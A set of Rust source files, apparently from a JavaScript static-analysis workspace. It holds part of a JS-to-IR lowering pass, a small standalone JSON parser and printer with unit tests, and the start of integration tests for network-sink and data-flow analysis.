                    Some(h) => self.cfg.add_edge(t, *h, EdgeKind::ThrowExplicit),
                    None => self.deferred_uncaught.push((cx.func, t)),
                }
            }
            Try {
                block,
                catch,
                finally,
            } => self.lower_try(cx, block, catch, finally, span),
            Switch { disc, cases } => self.lower_switch(cx, disc, cases, span),
            Block(body) => self.lower_stmts(cx, body),
            Empty => {}
            Labeled(label, body) => {
                let is_loop_or_switch = matches!(
                    body.kind,
                    While { .. }
                        | DoWhile { .. }
                        | For { .. }
                        | ForIn { .. }
                        | Switch { .. }
                        | Labeled(..)
                );
                if is_loop_or_switch {
                    // The loop/switch consumes the accumulated labels into
                    // its own context, so `continue label` works.
                    cx.pending_labels.push(label.name.clone());
                    self.lower_stmt(cx, body);
                    cx.pending_labels.clear();
                } else {
                    let mut labels = std::mem::take(&mut cx.pending_labels);
                    labels.push(label.name.clone());
                    cx.loops.push(LoopCtx {
                        labels,
                        breaks: Vec::new(),
                        continues: None,
                        is_breakable: false,
                    });
                    self.lower_stmt(cx, body);
                    let ctx = cx.loops.pop().expect("label ctx");
                    cx.pending.extend(ctx.breaks);
                }
            }
        }
    }

    fn lower_try(
        &mut self,
        cx: &mut FnCtx,
        block: &'a [ast::Stmt],
        catch: &'a Option<(ast::Ident, Vec<ast::Stmt>)>,
        finally: &'a Option<Vec<ast::Stmt>>,
        span: Span,
    ) {
        match catch {
            Some((param, catch_body)) => {
                // Emit the catch landing pad first (disconnected) so the
                // try-block statements can reference it as their handler.
                let saved_pending = std::mem::take(&mut cx.pending);
                let dst = self.resolve(cx.func, &param.name);
                let pad = self.emit(cx, IrStmtKind::CatchBind { dst }, param.span);
                // The pad emission left a pending edge; stash it.
                cx.pending.clear();
                cx.pending = saved_pending;

                cx.handlers.push(pad);
                self.lower_stmts(cx, block);
                cx.handlers.pop();
                let normal_exit = std::mem::take(&mut cx.pending);

                // Lower the catch body starting from the pad.
                cx.pending.push((pad, EdgeKind::Seq));
                self.lower_stmts(cx, catch_body);
                cx.pending.extend(normal_exit);

                if let Some(fin) = finally {
                    self.lower_stmts(cx, fin);
                }
                let _ = span;
            }
            None => {
                // try/finally without catch: exceptions run the finally
                // then propagate. We lower the finally twice: once on the
                // normal path, once on the exceptional path.
                let fin = finally.as_ref().expect("parser enforces catch|finally");
                let saved_pending = std::mem::take(&mut cx.pending);
                let pad = self.emit(cx, IrStmtKind::Nop("finally-pad"), span);
                cx.pending.clear();
                cx.pending = saved_pending;

                cx.handlers.push(pad);
                self.lower_stmts(cx, block);
                cx.handlers.pop();
                let normal_exit = std::mem::take(&mut cx.pending);

                // Exceptional copy of the finally, then rethrow.
                cx.pending.push((pad, EdgeKind::Seq));
                self.lower_stmts(cx, fin);
                let rethrow = self.emit(
                    cx,
                    IrStmtKind::Throw {
                        value: Operand::Undefined,
                    },
                    span,
                );
                cx.pending.clear();
                match cx.handlers.last() {
                    Some(h) => self.cfg.add_edge(rethrow, *h, EdgeKind::ThrowExplicit),
                    None => self.deferred_uncaught.push((cx.func, rethrow)),
                }

                // Normal copy.
                cx.pending = normal_exit;
                self.lower_stmts(cx, fin);
            }
        }
    }

    fn lower_switch(
        &mut self,
        cx: &mut FnCtx,
        disc: &'a ast::Expr,
        cases: &'a [ast::SwitchCase],
        span: Span,
    ) {
        let labels = std::mem::take(&mut cx.pending_labels);
        let d = self.lower_expr(cx, disc);
        // Chain of tests; collect the branch-true edge per case.
        let mut case_entries: Vec<(usize, Pending)> = Vec::new();
        for (i, case) in cases.iter().enumerate() {
            if let Some(test) = &case.test {
                let t = self.lower_expr(cx, test);
                let cmp = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::BinOp {
                        dst: cmp.clone(),
                        op: BinaryOp::StrictEq,
                        left: d.clone(),
                        right: t,
                    },
                    span,
                );
                let br = self.emit(
                    cx,
                    IrStmtKind::Branch {
                        cond: Operand::Place(cmp),
                    },
                    span,
                );
                cx.pending.clear();
                case_entries.push((i, vec![(br, EdgeKind::BranchTrue)]));
                cx.pending.push((br, EdgeKind::BranchFalse));
            }
        }
        // All tests failed: go to default if present, else past the switch.
        let default_idx = cases.iter().position(|c| c.test.is_none());
        let no_match_pending = std::mem::take(&mut cx.pending);
        if let Some(di) = default_idx {
            case_entries.push((di, no_match_pending));
        } else {
            cx.pending = no_match_pending; // falls past the switch
        }
        let fallthrough_tail = std::mem::take(&mut cx.pending);

        cx.loops.push(LoopCtx {
            labels,
            breaks: Vec::new(),
            continues: None,
            is_breakable: true,
        });
        // Bodies in source order; fallthrough connects them.
        for (i, case) in cases.iter().enumerate() {
            // Incoming: previous body fallthrough (already in pending) plus
            // any matching test edges.
            for (ci, edges) in &case_entries {
                if *ci == i {
                    cx.pending.extend(edges.iter().copied());
                }
            }
            if cx.pending.is_empty() && case.body.is_empty() {
                continue;
            }
            self.emit(cx, IrStmtKind::Nop("case"), span);
            self.lower_stmts(cx, &case.body);
        }
        let ctx = cx.loops.pop().expect("switch ctx");
        cx.pending.extend(ctx.breaks);
        cx.pending.extend(fallthrough_tail);
    }

    fn lower_member_prop(&mut self, cx: &mut FnCtx, prop: &'a ast::MemberProp) -> Operand {
        match prop {
            ast::MemberProp::Static(name) => Operand::Str(name.clone()),
            ast::MemberProp::Computed(e) => self.lower_expr(cx, e),
        }
    }

    /// Lowers an expression, returning the operand holding its value.
    fn lower_expr(&mut self, cx: &mut FnCtx, expr: &'a ast::Expr) -> Operand {
        use ast::ExprKind::*;
        let span = expr.span;
        match &expr.kind {
            Num(n) => Operand::Num(*n),
            Str(s) => Operand::Str(s.clone()),
            Bool(b) => Operand::Bool(*b),
            Null => Operand::Null,
            This => Operand::This,
            Ident(name) => {
                if name == "undefined" {
                    return Operand::Undefined;
                }
                Operand::Place(self.resolve(cx.func, name))
            }
            Regex(pat) => {
                let dst = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::NewRegex {
                        dst: dst.clone(),
                        pattern: pat.clone(),
                    },
                    span,
                );
                Operand::Place(dst)
            }
            Array(elems) => {
                let dst = self.temp(cx.func);
                self.emit(cx, IrStmtKind::NewArray { dst: dst.clone() }, span);
                for (i, e) in elems.iter().enumerate() {
                    if let Some(e) = e {
                        let v = self.lower_expr(cx, e);
                        self.emit(
                            cx,
                            IrStmtKind::StoreProp {
                                obj: Operand::Place(dst.clone()),
                                prop: Operand::Str(i.to_string()),
                                value: v,
                            },
                            span,
                        );
                    }
                }
                // length
                self.emit(
                    cx,
                    IrStmtKind::StoreProp {
                        obj: Operand::Place(dst.clone()),
                        prop: Operand::Str("length".into()),
                        value: Operand::Num(elems.len() as f64),
                    },
                    span,
                );
                Operand::Place(dst)
            }
            Object(props) => {
                let dst = self.temp(cx.func);
                self.emit(cx, IrStmtKind::NewObject { dst: dst.clone() }, span);
                for (key, value) in props {
                    let v = self.lower_expr(cx, value);
                    self.emit(
                        cx,
                        IrStmtKind::StoreProp {
                            obj: Operand::Place(dst.clone()),
                            prop: Operand::Str(key.as_string()),
                            value: v,
                        },
                        span,
                    );
                }
                Operand::Place(dst)
            }
            Function(f) => {
                let ir = self.ir_id_for(f.id, cx.func);
                let dst = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::Lambda {
                        dst: dst.clone(),
                        func: ir,
                    },
                    span,
                );
                Operand::Place(dst)
            }
            Unary { op, arg } => match op {
                ast::UnaryOp::Delete => {
                    if let Member { obj, prop } = &arg.kind {
                        let o = self.lower_expr(cx, obj);
                        let p = self.lower_member_prop(cx, prop);
                        self.emit(cx, IrStmtKind::DeleteProp { obj: o, prop: p }, span);
                    }
                    Operand::Bool(true)
                }
                ast::UnaryOp::Typeof => {
                    let v = self.lower_expr(cx, arg);
                    let dst = self.temp(cx.func);
                    self.emit(
                        cx,
                        IrStmtKind::Typeof {
                            dst: dst.clone(),
                            src: v,
                        },
                        span,
                    );
                    Operand::Place(dst)
                }
                _ => {
                    let v = self.lower_expr(cx, arg);
                    let dst = self.temp(cx.func);
                    self.emit(
                        cx,
                        IrStmtKind::UnOp {
                            dst: dst.clone(),
                            op: *op,
                            src: v,
                        },
                        span,
                    );
                    Operand::Place(dst)
                }
            },
            Binary { op, left, right } => {
                let l = self.lower_expr(cx, left);
                let r = self.lower_expr(cx, right);
                let dst = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::BinOp {
                        dst: dst.clone(),
                        op: *op,
                        left: l,
                        right: r,
                    },
                    span,
                );
                Operand::Place(dst)
            }
            Logical { is_and, left, right } => {
                // r = left; branch r { taken: r = right }
                let l = self.lower_expr(cx, left);
                let r = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::Copy {
                        dst: r.clone(),
                        src: l,
                    },
                    span,
                );
                let br = self.emit(
                    cx,
                    IrStmtKind::Branch {
                        cond: Operand::Place(r.clone()),
                    },
                    span,
                );
                cx.pending.clear();
                let (eval_edge, skip_edge) = if *is_and {
                    (EdgeKind::BranchTrue, EdgeKind::BranchFalse)
                } else {
                    (EdgeKind::BranchFalse, EdgeKind::BranchTrue)
                };
                cx.pending.push((br, eval_edge));
                let rv = self.lower_expr(cx, right);
                self.emit(
                    cx,
                    IrStmtKind::Copy {
                        dst: r.clone(),
                        src: rv,
                    },
                    span,
                );
                cx.pending.push((br, skip_edge));
                Operand::Place(r)
            }
            Assign { op, target, value } => self.lower_assign(cx, op, target, value, span),
            Update { inc, prefix, arg } => {
                let op = if *inc { BinaryOp::Add } else { BinaryOp::Sub };
                match &arg.kind {
                    Ident(name) => {
                        let place = self.resolve(cx.func, name);
                        let old = self.temp(cx.func);
                        // old = +x (numeric coercion)
                        self.emit(
                            cx,
                            IrStmtKind::UnOp {
                                dst: old.clone(),
                                op: ast::UnaryOp::Pos,
                                src: Operand::Place(place.clone()),
                            },
                            span,
                        );
                        let new = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::BinOp {
                                dst: new.clone(),
                                op,
                                left: Operand::Place(old.clone()),
                                right: Operand::Num(1.0),
                            },
                            span,
                        );
                        self.emit(
                            cx,
                            IrStmtKind::Copy {
                                dst: place,
                                src: Operand::Place(new.clone()),
                            },
                            span,
                        );
                        Operand::Place(if *prefix { new } else { old })
                    }
                    Member { obj, prop } => {
                        let o = self.lower_expr(cx, obj);
                        let p = self.lower_member_prop(cx, prop);
                        let loaded = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::LoadProp {
                                dst: loaded.clone(),
                                obj: o.clone(),
                                prop: p.clone(),
                            },
                            span,
                        );
                        let old = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::UnOp {
                                dst: old.clone(),
                                op: ast::UnaryOp::Pos,
                                src: Operand::Place(loaded),
                            },
                            span,
                        );
                        let new = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::BinOp {
                                dst: new.clone(),
                                op,
                                left: Operand::Place(old.clone()),
                                right: Operand::Num(1.0),
                            },
                            span,
                        );
                        self.emit(
                            cx,
                            IrStmtKind::StoreProp {
                                obj: o,
                                prop: p,
                                value: Operand::Place(new.clone()),
                            },
                            span,
                        );
                        Operand::Place(if *prefix { new } else { old })
                    }
                    _ => Operand::Undefined,
                }
            }
            Cond { test, cons, alt } => {
                let c = self.lower_expr(cx, test);
                let br = self.emit(cx, IrStmtKind::Branch { cond: c }, span);
                cx.pending.clear();
                let r = self.temp(cx.func);
                cx.pending.push((br, EdgeKind::BranchTrue));
                let cv = self.lower_expr(cx, cons);
                self.emit(
                    cx,
                    IrStmtKind::Copy {
                        dst: r.clone(),
                        src: cv,
                    },
                    span,
                );
                let after_cons = std::mem::take(&mut cx.pending);
                cx.pending.push((br, EdgeKind::BranchFalse));
                let av = self.lower_expr(cx, alt);
                self.emit(
                    cx,
                    IrStmtKind::Copy {
                        dst: r.clone(),
                        src: av,
                    },
                    span,
                );
                cx.pending.extend(after_cons);
                Operand::Place(r)
            }
            Call { callee, args } => {
                let (f, this) = match &callee.kind {
                    Member { obj, prop } => {
                        let o = self.lower_expr(cx, obj);
                        let p = self.lower_member_prop(cx, prop);
                        let f = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::LoadProp {
                                dst: f.clone(),
                                obj: o.clone(),
                                prop: p,
                            },
                            span,
                        );
                        (Operand::Place(f), Some(o))
                    }
                    _ => (self.lower_expr(cx, callee), None),
                };
                let args: Vec<Operand> =
                    args.iter().map(|a| self.lower_expr(cx, a)).collect();
                let dst = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::Call {
                        dst: dst.clone(),
                        callee: f,
                        this,
                        args,
                        is_new: false,
                    },
                    span,
                );
                self.emit(cx, IrStmtKind::CallResult { dst: dst.clone() }, span);
                Operand::Place(dst)
            }
            New { callee, args } => {
                let f = self.lower_expr(cx, callee);
                let args: Vec<Operand> =
                    args.iter().map(|a| self.lower_expr(cx, a)).collect();
                let dst = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::Call {
                        dst: dst.clone(),
                        callee: f,
                        this: None,
                        args,
                        is_new: true,
                    },
                    span,
                );
                self.emit(cx, IrStmtKind::CallResult { dst: dst.clone() }, span);
                Operand::Place(dst)
            }
            Member { obj, prop } => {
                let o = self.lower_expr(cx, obj);
                let p = self.lower_member_prop(cx, prop);
                let dst = self.temp(cx.func);
                self.emit(
                    cx,
                    IrStmtKind::LoadProp {
                        dst: dst.clone(),
                        obj: o,
                        prop: p,
                    },
                    span,
                );
                Operand::Place(dst)
            }
            Seq(es) => {
                let mut last = Operand::Undefined;
                for e in es {
                    last = self.lower_expr(cx, e);
                }
                last
            }
        }
    }

    fn lower_assign(
        &mut self,
        cx: &mut FnCtx,
        op: &Option<BinaryOp>,
        target: &'a ast::Expr,
        value: &'a ast::Expr,
        span: Span,
    ) -> Operand {
        use ast::ExprKind::*;
        match &target.kind {
            Ident(name) => {
                let place = self.resolve(cx.func, name);
                let rhs = match op {
                    None => self.lower_expr(cx, value),
                    Some(op) => {
                        let cur = Operand::Place(place.clone());
                        let v = self.lower_expr(cx, value);
                        let t = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::BinOp {
                                dst: t.clone(),
                                op: *op,
                                left: cur,
                                right: v,
                            },
                            span,
                        );
                        Operand::Place(t)
                    }
                };
                self.emit(
                    cx,
                    IrStmtKind::Copy {
                        dst: place.clone(),
                        src: rhs,
                    },
                    span,
                );
                Operand::Place(place)
            }
            Member { obj, prop } => {
                let o = self.lower_expr(cx, obj);
                let p = self.lower_member_prop(cx, prop);
                let rhs = match op {
                    None => self.lower_expr(cx, value),
                    Some(op) => {
                        let cur = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::LoadProp {
                                dst: cur.clone(),
                                obj: o.clone(),
                                prop: p.clone(),
                            },
                            span,
                        );
                        let v = self.lower_expr(cx, value);
                        let t = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::BinOp {
                                dst: t.clone(),
                                op: *op,
                                left: Operand::Place(cur),
                                right: v,
                            },
                            span,
                        );
                        Operand::Place(t)
                    }
                };
                self.emit(
                    cx,
                    IrStmtKind::StoreProp {
                        obj: o,
                        prop: p,
                        value: rhs.clone(),
                    },
                    span,
                );
                rhs
            }
            _ => Operand::Undefined,
        }
    }
}
