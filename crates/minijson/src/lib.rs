//! A deliberately small JSON value type with a pretty-printer and a
//! parser, implemented against `std` only.
//!
//! The workspace must build in airgapped environments (no crates.io), so
//! the signature export in `jssig` and the JSON assertions in the test
//! suite use this crate instead of `serde_json`. It covers exactly what
//! the tooling needs: object key order is preserved (signature exports
//! stay deterministic and diffable), numbers are `f64`, and strings
//! escape the mandatory JSON control set.

#![warn(missing_docs)]

use std::collections::BTreeMap;
use std::fmt;

/// A JSON document or fragment.
#[derive(Debug, Clone, PartialEq)]
pub enum Json {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// A number (always carried as `f64`, like JavaScript).
    Num(f64),
    /// A string.
    Str(String),
    /// An array.
    Arr(Vec<Json>),
    /// An object. Insertion order is preserved so exports are stable.
    Obj(Vec<(String, Json)>),
}

static NULL: Json = Json::Null;

impl Json {
    /// Builds an empty object.
    pub fn obj() -> Json {
        Json::Obj(Vec::new())
    }

    /// Adds a key to an object (panics on non-objects: builder misuse).
    pub fn set(&mut self, key: &str, value: Json) -> &mut Json {
        match self {
            Json::Obj(entries) => entries.push((key.to_owned(), value)),
            _ => panic!("Json::set on non-object"),
        }
        self
    }

    /// Object field lookup; `None` on missing keys or non-objects.
    pub fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(entries) => entries.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The elements, if this is an array.
    pub fn as_array(&self) -> Option<&Vec<Json>> {
        match self {
            Json::Arr(items) => Some(items),
            _ => None,
        }
    }

    /// The text, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The number, if this is a number.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(n) => Some(*n),
            _ => None,
        }
    }

    /// Serializes with two-space indentation.
    pub fn to_string_pretty(&self) -> String {
        let mut out = String::new();
        write_pretty(self, 0, &mut out);
        out
    }

    /// Serializes on a single line with no whitespace. Strings escape the
    /// control set, so the output never contains a raw newline — exactly
    /// what the newline-delimited service protocol needs.
    pub fn to_string_compact(&self) -> String {
        let mut out = String::new();
        write_compact(self, &mut out);
        out
    }

    /// Parses a JSON document.
    pub fn parse(text: &str) -> Result<Json, ParseError> {
        let mut p = Parser {
            bytes: text.as_bytes(),
            pos: 0,
        };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(p.err("trailing characters"));
        }
        Ok(v)
    }
}

/// `json["key"]` — returns `Json::Null` for missing keys, serde_json
/// style, so test assertions chain without unwrapping.
impl std::ops::Index<&str> for Json {
    type Output = Json;
    fn index(&self, key: &str) -> &Json {
        self.get(key).unwrap_or(&NULL)
    }
}

/// `json[0]` — returns `Json::Null` out of bounds.
impl std::ops::Index<usize> for Json {
    type Output = Json;
    fn index(&self, i: usize) -> &Json {
        match self {
            Json::Arr(items) => items.get(i).unwrap_or(&NULL),
            _ => &NULL,
        }
    }
}

impl PartialEq<&str> for Json {
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == Some(*other)
    }
}

impl From<&str> for Json {
    fn from(s: &str) -> Json {
        Json::Str(s.to_owned())
    }
}

impl From<String> for Json {
    fn from(s: String) -> Json {
        Json::Str(s)
    }
}

impl From<f64> for Json {
    fn from(n: f64) -> Json {
        Json::Num(n)
    }
}

impl From<u32> for Json {
    fn from(n: u32) -> Json {
        Json::Num(n as f64)
    }
}

impl From<Vec<Json>> for Json {
    fn from(items: Vec<Json>) -> Json {
        Json::Arr(items)
    }
}

impl fmt::Display for Json {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_string_pretty())
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

fn write_num(n: f64, out: &mut String) {
    if !n.is_finite() {
        out.push_str("null"); // JSON has no NaN/Infinity
    } else if n == n.trunc() && n.abs() < 1e15 {
        out.push_str(&format!("{}", n as i64));
    } else {
        out.push_str(&format!("{n}"));
    }
}

fn write_pretty(v: &Json, depth: usize, out: &mut String) {
    let pad = "  ".repeat(depth);
    let inner = "  ".repeat(depth + 1);
    match v {
        Json::Null => out.push_str("null"),
        Json::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Json::Num(n) => write_num(*n, out),
        Json::Str(s) => write_escaped(s, out),
        Json::Arr(items) if items.is_empty() => out.push_str("[]"),
        Json::Arr(items) => {
            out.push_str("[\n");
            for (i, item) in items.iter().enumerate() {
                out.push_str(&inner);
                write_pretty(item, depth + 1, out);
                if i + 1 < items.len() {
                    out.push(',');
                }
                out.push('\n');
            }
            out.push_str(&pad);
            out.push(']');
        }
        Json::Obj(entries) if entries.is_empty() => out.push_str("{}"),
        Json::Obj(entries) => {
            out.push_str("{\n");
            for (i, (k, item)) in entries.iter().enumerate() {
                out.push_str(&inner);
                write_escaped(k, out);
                out.push_str(": ");
                write_pretty(item, depth + 1, out);
                if i + 1 < entries.len() {
                    out.push(',');
                }
                out.push('\n');
            }
            out.push_str(&pad);
            out.push('}');
        }
    }
}

fn write_compact(v: &Json, out: &mut String) {
    match v {
        Json::Null => out.push_str("null"),
        Json::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Json::Num(n) => write_num(*n, out),
        Json::Str(s) => write_escaped(s, out),
        Json::Arr(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_compact(item, out);
            }
            out.push(']');
        }
        Json::Obj(entries) => {
            out.push('{');
            for (i, (k, item)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_escaped(k, out);
                out.push(':');
                write_compact(item, out);
            }
            out.push('}');
        }
    }
}

/// A parse failure with a byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Byte offset of the failure.
    pub offset: usize,
    /// What went wrong.
    pub message: &'static str,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "JSON parse error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for ParseError {}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, message: &'static str) -> ParseError {
        ParseError {
            offset: self.pos,
            message,
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn eat(&mut self, b: u8, message: &'static str) -> Result<(), ParseError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(message))
        }
    }

    fn literal(&mut self, word: &str, v: Json) -> Result<Json, ParseError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(v)
        } else {
            Err(self.err("invalid literal"))
        }
    }

    fn value(&mut self) -> Result<Json, ParseError> {
        match self.peek() {
            Some(b'n') => self.literal("null", Json::Null),
            Some(b't') => self.literal("true", Json::Bool(true)),
            Some(b'f') => self.literal("false", Json::Bool(false)),
            Some(b'"') => self.string().map(Json::Str),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            _ => Err(self.err("expected a value")),
        }
    }

    fn string(&mut self) -> Result<String, ParseError> {
        self.eat(b'"', "expected string")?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Fast path: a run of plain bytes.
            while let Some(b) = self.peek() {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| self.err("invalid utf-8"))?,
            );
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let esc = self.peek().ok_or_else(|| self.err("truncated escape"))?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'b' => out.push('\u{8}'),
                        b'f' => out.push('\u{c}'),
                        b'u' => {
                            if self.pos + 4 > self.bytes.len() {
                                return Err(self.err("truncated \\u escape"));
                            }
                            let hex = std::str::from_utf8(&self.bytes[self.pos..self.pos + 4])
                                .map_err(|_| self.err("bad \\u escape"))?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| self.err("bad \\u escape"))?;
                            self.pos += 4;
                            // Surrogate pairs are not needed by our tooling;
                            // map unpaired surrogates to the replacement char.
                            out.push(char::from_u32(code).unwrap_or('\u{fffd}'));
                        }
                        _ => return Err(self.err("unknown escape")),
                    }
                }
                _ => return Err(self.err("unterminated string")),
            }
        }
    }

    fn number(&mut self) -> Result<Json, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9' | b'.' | b'e' | b'E' | b'+' | b'-')) {
            self.pos += 1;
        }
        std::str::from_utf8(&self.bytes[start..self.pos])
            .ok()
            .and_then(|t| t.parse::<f64>().ok())
            .map(Json::Num)
            .ok_or_else(|| self.err("invalid number"))
    }

    fn array(&mut self) -> Result<Json, ParseError> {
        self.eat(b'[', "expected array")?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn object(&mut self) -> Result<Json, ParseError> {
        self.eat(b'{', "expected object")?;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(entries));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.eat(b':', "expected ':'")?;
            self.skip_ws();
            let v = self.value()?;
            entries.push((key, v));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(entries));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }
}

/// Convenience: parse into a `BTreeMap` view of a flat string->number
/// object (used by the perf-snapshot regression check in CI).
pub fn flat_numbers(v: &Json) -> BTreeMap<String, f64> {
    let mut out = BTreeMap::new();
    if let Json::Obj(entries) = v {
        for (k, item) in entries {
            if let Json::Num(n) = item {
                out.insert(k.clone(), *n);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_document() {
        let mut doc = Json::obj();
        doc.set("name", Json::from("a \"quoted\" name\n"));
        doc.set("count", Json::from(3u32));
        doc.set(
            "items",
            Json::Arr(vec![Json::Null, Json::Bool(true), Json::from(1.5)]),
        );
        doc.set("empty", Json::obj());
        let text = doc.to_string_pretty();
        let back = Json::parse(&text).unwrap();
        assert_eq!(doc, back);
    }

    #[test]
    fn indexing_mirrors_serde_json_ergonomics() {
        let v = Json::parse(r#"{"flows": [{"flow": "type1", "lines": [1, 2]}]}"#).unwrap();
        assert_eq!(v["flows"][0]["flow"], "type1");
        assert_eq!(v["flows"][0]["lines"].as_array().unwrap().len(), 2);
        assert_eq!(v["missing"][7], Json::Null);
    }

    #[test]
    fn parses_escapes_and_numbers() {
        let v = Json::parse(r#"["A\n\t\\", -1.5e2, 0.25]"#).unwrap();
        assert_eq!(v[0], "A\n\t\\");
        assert_eq!(v[1].as_f64(), Some(-150.0));
        assert_eq!(v[2].as_f64(), Some(0.25));
    }

    #[test]
    fn rejects_garbage() {
        assert!(Json::parse("{").is_err());
        assert!(Json::parse("[1,]").is_err());
        assert!(Json::parse("nulL").is_err());
        assert!(Json::parse("1 2").is_err());
    }

    #[test]
    fn compact_is_single_line_and_roundtrips() {
        let v = Json::parse(
            "{\"name\": \"two\\nlines\", \"items\": [1, {\"k\": null}], \"ok\": true}",
        )
        .unwrap();
        let line = v.to_string_compact();
        assert!(!line.contains('\n'), "compact output must be one line: {line}");
        assert_eq!(
            line,
            r#"{"name":"two\nlines","items":[1,{"k":null}],"ok":true}"#
        );
        assert_eq!(Json::parse(&line).unwrap(), v);
    }

    #[test]
    fn pretty_reprint_of_parsed_output_is_byte_identical() {
        // The service protocol relies on this: a signature JSON document
        // that goes through parse -> to_string_pretty comes back with the
        // exact bytes the CLI printed (key order preserved, integer
        // formatting stable).
        let mut doc = Json::obj();
        doc.set("flows", Json::Arr(vec![Json::from("url"), Json::from(12u32)]));
        doc.set("apis", Json::Arr(vec![]));
        doc.set("nested", {
            let mut o = Json::obj();
            o.set("b_first", Json::from(2.5));
            o.set("a_second", Json::Null);
            o
        });
        let pretty = doc.to_string_pretty();
        let reparsed = Json::parse(&pretty).unwrap();
        assert_eq!(reparsed.to_string_pretty(), pretty);
        let compact = doc.to_string_compact();
        assert_eq!(Json::parse(&compact).unwrap().to_string_pretty(), pretty);
    }

    #[test]
    fn integers_print_without_fraction() {
        assert_eq!(Json::Num(42.0).to_string_pretty(), "42");
        assert_eq!(Json::Num(0.5).to_string_pretty(), "0.5");
    }
}
