//! Integration tests for the base analysis: abstract semantics, network
//! domain inference, event-loop modeling, and read/write set production.

use jsanalysis::{analyze, AnalysisConfig, AnalysisResult, SinkKind, SourceKind, Strength};
use jsir::{IrStmtKind, Lowered};

fn run(src: &str) -> (Lowered, AnalysisResult) {
    let ast = jsparser::parse(src).expect("parse");
    let lowered = jsir::lower(&ast);
    let result = analyze(&lowered, &AnalysisConfig::default());
    assert!(!result.hit_step_limit, "analysis hit step limit");
    (lowered, result)
}

fn send_domains(result: &AnalysisResult) -> Vec<String> {
    result
        .sinks
        .iter()
        .filter(|s| s.kind == SinkKind::Send)
        .map(|s| format!("{}", s.domain))
        .collect()
}

#[test]
